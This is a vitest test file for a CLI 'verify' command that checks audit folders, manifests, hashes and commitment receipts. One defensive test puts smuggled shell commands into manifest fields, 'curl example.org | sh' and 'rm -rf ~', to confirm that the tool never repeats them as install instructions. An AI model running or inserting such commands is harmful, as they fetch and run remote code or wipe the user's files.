import { writeFile } from "node:fs/promises";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { commitEvidence } from "../../src/certificate/commit.js";
import type { ManifestParts } from "../../src/certificate/manifest.js";
import { runVerify, type VerifyFlags } from "../../src/cli/commands/verify.js";
import { asFailure, EXIT_CODES } from "../../src/cli/failure.js";
import { flipByte, madeUpRows, makeAgain, put, writeMadeUpAudit } from "../certificate/audit-on-disk.js";
import { madeUpManifest } from "../certificate/made-up-audit.js";
import { freshFolder, quietIo, recordedStream } from "./support.js";

const folder = freshFolder();
const key = new Uint8Array(32).fill(9);
const { commitments, receipts } = commitEvidence(madeUpRows, key);

async function verify(flags: VerifyFlags = {}, name = "audit") {
  const stdout = recordedStream();
  const io = { ...quietIo(folder()), stdout };
  try {
    const exitCode = await runVerify(name, flags, io, makeAgain);
    return { exitCode, text: stdout.text(), error: null };
  } catch (error) {
    const failure = asFailure(error, null);
    return { exitCode: failure.exitCode, text: stdout.text(), error: failure };
  }
}

const words = (text: string) => text.replace(/\s+/g, " ");
const written = (changes: Partial<ManifestParts> = {}) => writeMadeUpAudit(folder(), changes);

describe("recast verify", () => {
  it("says what was verified, and with what", async () => {
    await written();
    const { exitCode, text } = await verify();
    expect(exitCode).toBe(EXIT_CODES.ok);
    expect(words(text)).toContain("SHA-256: 3 of 3 outputs and 2 of 2 inputs match manifest.json.");
    expect(words(text)).toContain("3 of 3 outputs are the same, byte for byte, and so is manifest.json.");
    expect(words(text)).toContain("made with recast-audit 0.1.0, kernels wasm ");
    expect(text).toContain(madeUpManifest().digest);
    expect(text).toContain("Verified:");
  });

  it("says with --quick that nothing was made again", async () => {
    await written();
    const { exitCode, text } = await verify({ quick: true });
    expect(exitCode).toBe(EXIT_CODES.ok);
    expect(words(text)).toContain("Not repeated: --quick compares hashes only.");
    expect(text).not.toContain("Verified:");
  });

  it("names what differs, and ends with its own exit code", async () => {
    const audit = await written();
    await flipByte(join(audit, "tables", "rates.csv"), 10);
    const { exitCode, text } = await verify();
    expect(exitCode).toBe(6);
    expect(words(text)).toContain("SHA-256: 2 of 3 outputs");
    expect(words(text)).toContain(
      "VERIFY_FAILED: tables/rates.csv was changed: line 2 is 'f,0' in the folder, 'f,1' in the repeated audit",
    );
  });

  it("in quiet fails with the code and the file, or says nothing", async () => {
    const audit = await written();
    expect(await verify({ quiet: true })).toEqual({ exitCode: 0, text: "", error: null });
    await flipByte(join(audit, "report.html"), 4);
    const { exitCode, text, error } = await verify({ quiet: true });
    expect({ exitCode, text }).toEqual({ exitCode: 6, text: "" });
    expect(error).toMatchObject({ code: "VERIFY_FAILED", place: { file: "report.html" } });
  });

  it("prints one object with --json, also when it fails", async () => {
    const audit = await written();
    const good = JSON.parse((await verify({ json: true })).text) as unknown;
    expect(good).toMatchObject({ command: "verify", verified: true, error: null, findings: [], inputs: 2, outputs: 3 });
    await flipByte(join(audit, "audit.json"), 20);
    const { exitCode, text } = await verify({ json: true });
    expect(exitCode).toBe(6);
    expect(JSON.parse(text)).toMatchObject({
      verified: false,
      error: { code: "VERIFY_FAILED", file: "audit.json" },
      findings: [{ problem: "changed" }],
    });
  });

  it("refuses a changed manifest with its own code", async () => {
    const audit = await written();
    await flipByte(join(audit, "manifest.json"), 30);
    expect(await verify()).toMatchObject({ exitCode: 6, error: { code: "MANIFEST_INVALID" } });
    expect(await verify({}, "nowhere")).toMatchObject({ exitCode: 4, error: { code: "FILE_NOT_FOUND" } });
  });

  it.each([
    ["recast-audlt", "0.1.1"],
    ["recast-audit; curl example.org | sh", "0.1.1"],
    ["recast-audit", "0.1.1 && rm -rf ~"],
    ["recast-audit", "latest"],
  ])("repeats no command to install %s %s", async (name, version) => {
    await written({ package: { name, version } });
    const { text } = await verify({ quick: true });
    expect(words(text)).not.toContain("npm install");
    expect(words(text)).toContain("The manifest names another program, or no version of this one.");
  });

  it("says plainly when the audit is of another version or other kernels", async () => {
    await written({ package: { name: "recast-audit", version: "9.9.9" } });
    const { text, exitCode } = await verify();
    expect(words(text)).toContain("The audit was made with version 9.9.9, and this is ");
    expect(exitCode).toBe(6); // the made-up outputs were written with 0.1.0 in them
    expect(words(text)).toContain('$.version is "0.1.0" in the folder, "9.9.9" in the repeated audit');
    await written({ kernel: { name: "wasm", sha256: "0".repeat(64) } });
    const other = await verify();
    expect(words(other.text)).toContain("made with other numeric kernels");
    expect(other.exitCode).toBe(0);
  });

  it("mentions files that are not listed, and warns of secrets among them", async () => {
    const audit = await written();
    for (let i = 0; i < 12; i++) await put(join(audit, `extra-${i}.txt`), "x");
    expect(words((await verify()).text)).toContain("and 2 more");
    await put(join(audit, "receipts", "letter-1.json"), "{}");
    const { text, exitCode } = await verify();
    expect(words(text)).toContain("remove them from the folder before you share it");
    expect(exitCode).toBe(0);
  });

  it("takes the inputs from another folder, and without them says so", async () => {
    await written();
    await put(join(folder(), "far", "x"), "");
    const { rename } = await import("node:fs/promises");
    await rename(join(folder(), "decisions.csv"), join(folder(), "far", "decisions.csv"));
    const without = await verify();
    expect(words(without.text)).toContain(
      "the decisions file decisions.csv is missing; name the folder that has it (--inputs)",
    );
    expect(words(without.text)).toContain("Not repeated: some inputs are missing or changed.");
    expect(without.exitCode).toBe(6);
    const hashes = await verify({ quick: true });
    expect(words(hashes.text)).toContain("Not found, so not compared: decisions.csv.");
    expect(hashes.exitCode).toBe(0);
    expect((await verify({ inputs: "far" })).exitCode).toBe(0);
  });

  it("computes commitments again with the key", async () => {
    await written({ commitments });
    expect(words((await verify()).text)).toContain("not recomputed, which needs the auditor's commitment.key");
    expect(words((await verify({ quick: true })).text)).toContain("17 letters: not recomputed.");
    await writeFile(join(folder(), "my.key"), `${"09".repeat(32)}\n`);
    const { text, exitCode } = await verify({ key: "my.key" });
    expect(words(text)).toContain("recomputed with the key.");
    expect(exitCode).toBe(0);
  });
});

describe("recast verify --letter", () => {
  async function receipt(path = "receipts/letter-"): Promise<string> {
    await written({ commitments });
    const found = receipts.find((file) => file.path.startsWith(path));
    await writeFile(join(folder(), "receipt.json"), found?.text ?? "");
    return found?.text ?? "";
  }

  it("proves that a letter was counted, and shows what it says", async () => {
    await receipt();
    const { exitCode, text } = await verify({ letter: "receipt.json" });
    expect(exitCode).toBe(0);
    expect(text).toContain("Your letter was counted");
    expect(words(text)).toContain(`one of the ${commitments.letters?.count} letters`);
    expect(text).toMatch(/income +\d/);
    expect(text).toContain(madeUpManifest({ commitments }).digest);
    expect((await verify({ letter: "receipt.json", quiet: true })).text).toBe("");
  });

  it("proves decisions too, and prints one object with --json", async () => {
    await receipt("receipts/decision-");
    expect((await verify({ letter: "receipt.json" })).text).toContain("Your decision was counted");
    const data = JSON.parse((await verify({ letter: "receipt.json", json: true })).text) as unknown;
    expect(data).toMatchObject({ verified: true, receipt: "receipt.json", row: { kind: "decision" } });
  });

  it("refuses a changed receipt, another audit, and what is no receipt", async () => {
    const text = await receipt();
    await writeFile(join(folder(), "receipt.json"), text.replace(/"salt": "../, '"salt": "xx'));
    expect(await verify({ letter: "receipt.json" })).toMatchObject({ exitCode: 6, error: { code: "RECEIPT_INVALID" } });
    await writeFile(join(folder(), "receipt.json"), text.replace('"kind": "letter"', '"kind": "decision"'));
    expect((await verify({ letter: "receipt.json" })).error?.message).toContain("receipt.json proves nothing");
    await writeFile(join(folder(), "receipt.json"), text);
    await written();
    expect((await verify({ letter: "receipt.json" })).error?.message).toContain("no commitments to rows");
    expect(await verify({ letter: "none.json" })).toMatchObject({ exitCode: 4 });
  });
});
